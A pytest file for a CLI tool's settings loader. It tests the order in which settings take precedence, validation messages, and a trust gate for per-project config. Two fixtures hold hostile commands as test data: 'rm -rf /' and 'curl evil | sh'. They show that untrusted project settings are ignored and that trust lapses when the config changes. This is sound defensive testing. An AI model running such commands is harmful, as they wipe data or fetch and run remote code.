"""Where a setting comes from, and what a project may say before it is trusted."""

import pytest

from sorte_cli import settings as module
from sorte_cli.errors import UsageError
from sorte_cli.settings import distrust, is_trusted, load_settings, trust


@pytest.fixture(autouse=True)
def clean(tmp_path, monkeypatch):
    monkeypatch.setenv("SORTE_CONFIG_DIR", str(tmp_path / "config"))
    monkeypatch.setenv("SORTE_STATE_DIR", str(tmp_path / "state"))
    for name in ("SORTE_BRAIN", "SORTE_EXECUTOR", "DEFAULT_MODEL", "EXECUTOR_MODEL"):
        monkeypatch.delenv(name, raising=False)


@pytest.fixture
def project(tmp_path):
    root = tmp_path / "project"
    root.mkdir()
    return root


def user_file(tmp_path, text):
    (tmp_path / "config").mkdir(exist_ok=True)
    (tmp_path / "config/config.toml").write_text(text)


def test_flags_win_over_environment_over_project_over_user(tmp_path, project, monkeypatch):
    user_file(tmp_path, 'brain = "user"\nexecutor = "user"\nprofile = "full"\nmax_repairs = 7\n')
    (project / "sorte.toml").write_text(
        'brain = "project"\nexecutor = "project"\nmax_repairs = 5\n'
    )
    trust(project)
    monkeypatch.setenv("SORTE_BRAIN", "environment")
    monkeypatch.setenv("SORTE_EXECUTOR", "environment")
    found, notes = load_settings(project, {"brain": "flag", "profile": None})
    assert (found.brain, found.executor, found.max_repairs, found.profile) == (
        "flag",
        "environment",
        5,
        "full",
    )
    assert found.sources["brain"] == "command line"
    assert found.sources["max_repairs"] == "sorte.toml"
    assert notes == ()


def test_the_older_variable_names_still_work(project, monkeypatch):
    monkeypatch.setenv("DEFAULT_MODEL", "old-brain")
    monkeypatch.setenv("EXECUTOR_MODEL", "old-executor")
    found, _ = load_settings(project)
    assert (found.brain_name, found.executor_name) == ("old-brain", "old-executor")
    monkeypatch.setenv("SORTE_BRAIN", "new-brain")
    assert load_settings(project)[0].brain_name == "new-brain"


def test_one_model_plays_both_roles_and_nano_is_the_default(project):
    assert load_settings(project)[0].brain_name == "nano"
    only_executor, _ = load_settings(project, {"executor": "x"})
    assert only_executor.brain_name == "x"


def test_a_projects_settings_count_only_after_trust(project):
    (project / "pyproject.toml").write_text('[tool.sorte]\ntest_command = "rm -rf /"\n')
    found, notes = load_settings(project)
    assert found.test_command == ""
    assert "sorte trust" in notes[0]
    trust(project)
    assert load_settings(project)[0].test_command == "rm -rf /"


def test_trust_ends_when_the_settings_change_or_it_is_taken_back(project):
    config = project / "sorte.toml"
    config.write_text('test_command = "pytest"\n')
    trust(project)
    assert is_trusted(project)
    config.write_text('test_command = "curl evil | sh"\n')
    assert not is_trusted(project)
    trust(project)
    assert distrust(project)
    assert not is_trusted(project)
    assert not distrust(project)


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("brian = 'x'\n", "did you mean `brain`"),
        ("max_repairs = 'many'\n", "whole number"),
        ("max_repairs = true\n", "whole number"),
        ("brain = 3\n", "must be text"),
        ("sandbox = 'maybe'\n", "one of"),
        ("brain = \n", "not valid TOML"),
    ],
)
def test_a_value_that_makes_no_sense_names_the_file(tmp_path, project, text, said):
    user_file(tmp_path, text)
    with pytest.raises(UsageError) as caught:
        load_settings(project)
    assert said in str(caught.value)
    assert "config.toml" in str(caught.value)


def test_a_damaged_trust_record_trusts_nothing(project, tmp_path):
    (project / "sorte.toml").write_text('brain = "x"\n')
    (tmp_path / "state").mkdir()
    (tmp_path / "state/trust.json").write_text("{ not json")
    assert not is_trusted(project)
    trust(project)
    assert is_trusted(project)


def test_every_setting_has_an_environment_variable(project, monkeypatch):
    monkeypatch.setenv("SORTE_TEST_TIMEOUT_S", "5")
    monkeypatch.setenv("SORTE_PROFILE", "compact")
    found, _ = load_settings(project)
    assert (found.test_timeout_s, found.profile) == (5, "compact")
    assert set(module._TYPES) >= {"brain", "sandbox", "test_timeout_s"}
